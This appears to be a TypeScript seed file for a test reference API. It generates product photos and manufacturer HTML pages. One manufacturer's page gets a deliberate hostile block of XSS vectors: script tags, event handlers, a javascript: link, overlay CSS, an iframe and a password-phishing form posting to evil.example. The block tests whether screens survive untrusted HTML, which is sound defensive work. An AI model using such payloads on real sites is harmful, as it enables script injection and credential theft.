import { detailDefinitions } from '#src/reference-api/drawings/details/details.ts';
import { detailsDrawing } from '#src/reference-api/drawings/details/product-parts/details-of-product.ts';
import { colorOf } from '#src/reference-api/pictures/product-look.ts';
import { NORTHFOLD, OHALLORAN } from '#src/reference-api/seed/named-manufacturers.ts';
import type { SeedContext } from '#src/reference-api/seed/seed-context.ts';
import { escapeHtml } from '#src/reference-api/seed/news.ts';
import { lowerFirst } from '#src/reference-api/seed/titles-and-text.ts';

/** Other pictures of a product: in another color or form, then installed. No picture repeats. */
export function seedPhotos(context: SeedContext): void {
  for (const { product, profile } of context.seededProducts) {
    const random = context.random('photos', product.id);
    if (product.id !== 1 && !random.chance(0.15)) continue;
    const count = product.id === 1 ? 3 : random.integer(1, 2);
    const details = detailsDrawing(profile.number, product).map(({ detail: { key } }) => {
      const { condition, view } = detailDefinitions[key];
      return {
        url: `/api/files/detail/${key}/construction.svg`,
        caption: `Built in: ${condition}, ${lowerFirst(view)}`,
      };
    });
    const { name: color } = colorOf(product, 2);
    const isOtherColor = color !== null && color !== colorOf(product).name;
    const other = {
      url: `/api/files/product/${product.id}-2.svg`,
      caption: `${product.tradename} ${lowerFirst(product.noun)}${isOtherColor ? `, ${color}` : ' in another form'}`,
    };
    context.world.photos.set(
      product.id,
      [other, ...details].slice(0, count).map((picture, index) => ({
        ...picture,
        id: product.id * 10 + index,
        productId: product.id,
      })),
    );
  }
}

/** The manufacturers' own HTML. It is plain, except for one page that is hostile and broken on purpose. */
export function seedCustomHtml(context: SeedContext): void {
  for (const { company, profiles } of context.manufacturers) {
    if (profiles.length === 0) continue;
    const random = context.random('html', company.coid);
    if (![NORTHFOLD, OHALLORAN].includes(company.coid) && !random.chance(0.35)) continue;
    const [first, second] = profiles;
    const name = escapeHtml(company.companyNoHtml);
    const html = [
      `<h2>Working with ${name}</h2>`,
      `<p>${escapeHtml(first?.descriptions[0] ?? '')} ${escapeHtml(first?.limitations[0] ?? '')}</p>`,
      second ? `<h3>Also from our works</h3><p>${escapeHtml(second.descriptions[0] ?? '')}</p>` : '',
      `<ul><li>Technical desk: ${company.phone ?? ''}</li><li>Samples leave within a day</li><li><a href="https://www.${company.webabrv}.example/reps">Find a representative</a></li></ul>`,
      `<table><tr><th>Line</th><th>Standard</th></tr>${profiles
        .slice(0, 4)
        .map(
          ({ assembly, standards }) =>
            `<tr><td>${escapeHtml(assembly)}</td><td>${escapeHtml(standards[0] ?? '')}</td></tr>`,
        )
        .join('')}</table>`,
    ].join('\n');
    context.world.customHtml.set(company.coid, company.coid === OHALLORAN ? html + HOSTILE : html);
  }
}

/** Scripts, handlers, styles, frames, a phishing form, broken markup: what screens have to survive. */
const HOSTILE = `
<script>document.title = 'owned'; window.ownPageRan = true;</script>
<img src="x" onerror="window.ownPageRan = true" alt="Front in the snow">
<p style="position:fixed;inset:0;background:#fff;z-index:99999">Free samples</p>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password" placeholder="Sign in again"><button>Go</button></form>
<a href="javascript:alert(1)">Installation guide</a> <a href="//evil.example/x" target="_top">Mirror</a>
<svg><animate onbegin="window.ownPageRan = true" attributeName="x"></animate></svg>
<div id="root" class="app"><b>Warranty <i>terms</b> apply</i><table><tr><td>unclosed
<p>Last <em>word</p></em>`;
